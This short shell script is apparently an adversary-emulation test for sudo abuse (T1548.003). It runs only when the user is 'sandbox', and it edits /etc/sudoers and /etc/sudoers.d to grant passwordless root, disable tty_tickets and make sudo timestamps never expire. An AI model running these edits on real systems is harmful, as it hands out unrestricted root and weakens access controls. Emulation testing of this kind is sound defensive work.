#!/bin/sh
# technique: T1548.003
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo 'sandbox ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers; echo 'Defaults !tty_tickets' > /etc/sudoers.d/x; sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers
